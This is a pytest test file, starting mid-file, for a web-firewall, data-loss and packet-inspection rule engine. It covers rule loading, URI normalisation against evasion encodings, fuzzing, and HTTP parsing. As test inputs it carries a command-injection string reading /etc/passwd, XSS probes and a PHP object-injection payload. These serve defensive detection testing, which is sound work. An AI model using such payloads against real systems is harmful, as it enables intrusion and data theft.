            "domains:\n  - {name: d, match: ['*x.example']}\n")
    errs = errors_of(text)
    assert [e.split(":")[1] for e in errs] == ["3", "4", "6", "8"], errs


def test_rules_error_is_a_usage_error(tmp_path):
    with pytest.raises(RulesError) as ei:
        load_rules_text("dlp:\n  - {name: x, detectors: [nope]}\n", "r.yaml")
    assert isinstance(ei.value, UsageError) and ei.value.exit_code == 2
    with pytest.raises(RulesError) as ei:
        load_rules(tmp_path / "missing.yaml")
    assert "missing.yaml: cannot read" in str(ei.value)
    bad = tmp_path / "bad.yaml"
    bad.write_text("domains:\n  - {name: d, match: ['a.*']}\n")
    with pytest.raises(RulesError) as ei:
        load_rules(bad)
    assert str(ei.value).startswith(f"{bad}:2: ")


def test_empty_sections_and_file():
    rs = load_rules_text("", "e.yaml")
    assert rs.summary()["waf_signatures"] == 0
    assert feed_all(rs.flow({"waf", "dlp", "dpi"}), [request("/?q=<script>"), sni("evil.example")]) == []
    rs = load_rules_text("waf:\ndlp:\ndomains:\n", "e.yaml")
    assert rs.summary()["dlp_rules"] == 0


def test_example_file_loads_and_works():
    rs = load_rules(EXAMPLE)
    s = rs.summary()
    assert s["custom_signatures"] == 3 and s["dlp_rules"] == 2 and s["domain_rules"] == 2
    assert s["waf_by_category"] == {c: sum(1 for b in BUILTIN_SIGNATURES if b.category == c)
                                    for c in WAF_CATEGORIES}
    hits = waf_hits(rs, "/admin/?x=" + quote("'; cat /etc/passwd"))
    assert {h.rule_id for h in hits} >= {900001, 100203, 100301}
    assert {h.action for h in hits if h.category == "cmdi"} == {"alert"}
    assert [h.rule_id for h in waf_hits(rs, '/?obj=O:8:"stdClass":0:{}')] == [900002]
    assert [h.rule_name for h in feed_all(rs.flow({"dpi"}), [sni("cdn.malware.test")])] == ["blocked"]
    assert [h.rule_name for h in body_hits(rs, [b"AKIAIOSFODNN7EXAMPLE"], C2S)] == ["secrets-uploaded"]


# -- normalisation ----------------------------------------------------------------------

@pytest.mark.parametrize("target, want", [
    ("/a%2520b", b"/a b"),                           # double
    ("/a%25252e", b"/a."),                           # triple
    ("/%u0041%u00e9", "/Aé".encode()),
    ("/a%c0%afb", b"/a/b"),                          # overlong '/'
    ("/a/./b//c\\d", b"/a/b/c/d"),
    ("/a/../b", b"/a/../b"),                         # '..' kept for the signatures
    ("/a+b?c+d=e+f%2B", b"/a+b?c d=e f+"),           # '+' is a space in the query only
    ("/x%00y", b"/xy"),
    ("/%zz%4", b"/%zz%4"),                           # not escapes: as written
    ("http://h.example:80/p?q=1#frag", b"/p?q=1"),
    ("/%EF%BC%8Fetc", b"/etc"),                      # full-width solidus, then '//' folded
])
def test_normalize_uri(target, want):
    assert normalize.uri(target) == want


def test_normalize_args_and_bodies():
    assert normalize.args("/p?a=1&b=x%2By+z&c&=v") == [b"1", b"x+y z", b"v"]
    assert len(normalize.args("/p?" + "&".join(f"a{i}=v" for i in range(500)))) == normalize.MAX_ARGS
    assert normalize.body(b"a=%3Cb%3E+c", "application/x-www-form-urlencoded") == b"a=<b> c"
    assert normalize.body(b'{"a": "\\u003c"}', "application/json; charset=utf-8") == b'{"a": "<"}'
    assert normalize.body(b"50%25 off", "text/plain") == b"50%25 off"      # not form: not decoded


# -- random and mutated input never raises -----------------------------------------------

@pytest.fixture(scope="module")
def everything():
    return load_rules(EXAMPLE)


ATOMS = [a for _, a in ATTACKS] + ["%", "%2", "%u12", "%c0", "%ff", "\\", "/./", "+", "&", "=", "?", "\x00",
                                   "\u00e9", "\uff1c", "%uD800", "%ed%a0%80", "4111 1111 1111 1111"]


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.one_of(st.sampled_from(ATOMS), st.text(max_size=20)), max_size=12), st.randoms())
def test_random_uris_never_raise(everything, parts, rnd):
    text = "".join(parts)
    chars = list(text)
    for _ in range(rnd.randint(0, 3)):                    # mutate: drop, duplicate, flip case
        if chars:
            i = rnd.randrange(len(chars))
            op = rnd.randrange(3)
            if op == 0:
                del chars[i]
            elif op == 1:
                chars.insert(i, chars[i])
            else:
                chars[i] = chars[i].swapcase()
    text = "".join(chars)
    uri = "/" + text.encode("utf-8", "surrogatepass").decode("latin-1")
    headers = [("Cookie", uri), ("User-Agent", uri[:200]), ("Referer", uri)]
    hits = waf_hits(everything, uri, headers=headers)
    hits += waf_hits(everything, uri[:50], body=uri.encode("latin-1"), content_type="application/x-www-form-urlencoded")
    for h in hits:
        assert len(h.matched) <= MAX_MATCHED_CHARS and h.matched.isprintable()
        assert h.action in ("block", "alert") and 1 <= h.severity <= 3


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.binary(max_size=3000), st.lists(st.integers(0, 3000), max_size=6),
       st.sampled_from([None, "application/json", "text/plain", "application/x-www-form-urlencoded"]))
def test_random_bodies_never_raise(everything, body, cuts, ctype):
    cuts = sorted({c for c in cuts if c <= len(body)} | {0, len(body)})
    chunks = [body[a:b] for a, b in zip(cuts, cuts[1:])]
    insp = everything.flow({"waf", "dlp", "dpi"})
    evs = [request("/", method="POST", content_type=ctype)] + [HttpBody(C2S, c) for c in chunks]
    evs += [HttpMessageEnd(C2S, len(body), len(body)),
            HttpResponse(S2C, 200, "OK", "HTTP/1.1", ctype, (), "POST", None, False, (), 0)]
    evs += [HttpBody(S2C, c) for c in chunks]
    for h in feed_all(insp, evs):
        assert len(h.matched) <= MAX_MATCHED_CHARS and h.matched.isprintable()


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.text(max_size=80))
def test_random_names_never_raise(everything, name):
    evs = [dns_query(name), sni(name), request(host=name), request(name, method="CONNECT", host=None)]
    feed_all(everything.flow({"dpi"}), evs)
    check_domain_pattern(name)


@settings(max_examples=100, deadline=None)
@given(st.text(max_size=300))
def test_random_rule_files_raise_only_rules_errors(text):
    try:
        load_rules_text(text, "fuzz.yaml")
    except RulesError as e:
        assert all(line.startswith("fuzz.yaml:") for line in e.lines())


def test_mutated_rule_files_raise_only_rules_errors():
    rnd = random.Random(7)
    base = EXAMPLE.read_text()
    for _ in range(60):
        lines = base.splitlines()
        i = rnd.randrange(len(lines))
        op = rnd.randrange(3)
        if op == 0:
            del lines[i]
        elif op == 1:
            lines.insert(i, lines[rnd.randrange(len(lines))])
        else:
            lines[i] = lines[i].replace(":", "", 1)
        try:
            load_rules_text("\n".join(lines), "m.yaml")
        except RulesError as e:
            assert all(line.startswith("m.yaml:") for line in e.lines()), e.lines()


def test_through_the_http_parser(waf):
    """The real parser's events, request split at every byte, card in a chunked response."""
    req = b"GET /?q=%3Cscript%3E HTTP/1.1\r\nHost: a.example\r\n\r\n"
    resp = (b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n"
            b"a\r\npan=411111\r\na\r\n1111111111\r\n0\r\n\r\n")
    rs = load_rules_text(ALL_SETS + DLP_ALL, "x.yaml")
    for cut in (5, 20, len(req) - 1):
        p = HttpParser()
        insp = rs.flow({"waf", "dlp"})
        evs = p.receive_data(req[:cut], C2S) + p.receive_data(req[cut:], C2S) + p.receive_data(resp, S2C)
        hits = feed_all(insp, evs)
        assert [h.category for h in hits] == ["xss", "credit_card"]
